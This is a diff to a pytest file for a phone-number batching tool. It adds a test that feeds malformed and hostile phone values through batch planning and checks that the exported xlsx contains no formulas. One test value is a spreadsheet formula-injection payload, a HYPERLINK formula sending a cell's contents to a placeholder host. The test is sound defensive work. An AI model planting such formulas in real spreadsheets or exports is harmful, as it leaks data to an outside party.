@@ -3,6 +3,8 @@ split into batches and write their files."""
 
 from __future__ import annotations
 
+import io
+
 import pytest
 
 from callfilter import db as dbm
@@ -212,3 +214,36 @@ def test_a_stale_request_file_from_a_database_made_anew_is_written_again(db, sto
     body = storage.read_json(files.request_path(task["id"], 1))
     assert [n["phone"] for n in body["numbers"]] == ["13500000001", "13500000002"]
     assert body["task_name"] == f"call filter {task['id']} batch 1/1"
+
+
+def test_hostile_telnos_are_normalised_or_judged_malformed_and_never_break_a_file(db, storage):
+    from openpyxl import load_workbook
+
+    hostile = {
+        "1380013800a": "FORMAT",  # a letter
+        "abc": "FORMAT",
+        "138\x0100138000": "FORMAT",  # a control character
+        "=13800138000": "FORMAT",
+        '=HYPERLINK("http://x/?"&B3,"y")': "FORMAT",
+        "-13800138001": None,  # a dash is a separator: 13800138001
+        "@13800138002": "FORMAT",
+        "+8613800138003": None,  # 13800138003
+        "\x0b13800138004": None,  # a vertical tab is white space: 13800138004
+        "138 0013 8005\n": None,
+    }
+    devenv.load_case_tel(db.conn, "S-HOSTILE", list(hostile))
+    task = registered(db, "S-HOSTILE")
+    with dbm.connect() as conn:
+        (batch,) = planning.plan_batches(conn, task, storage, max_batches=1024)
+    malformed = {
+        r["telno"]: r["valid_reason"]
+        for r in db.rows("select telno, valid_reason from case_tel where valid_status = 2")
+    }
+    assert malformed == {telno: why for telno, why in hostile.items() if why}
+    body = storage.read_json(files.request_path(task["id"], 1))
+    assert sorted(n["phone"] for n in body["numbers"]) == [f"1380013800{i}" for i in (1, 3, 4, 5)]
+    # The batch's xlsx holds every row it sent as text: no formula, no broken file.
+    workbook = load_workbook(io.BytesIO(storage.read_bytes(files.batch_xlsx_path(task["id"], 1))))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert batch.numbers == 4
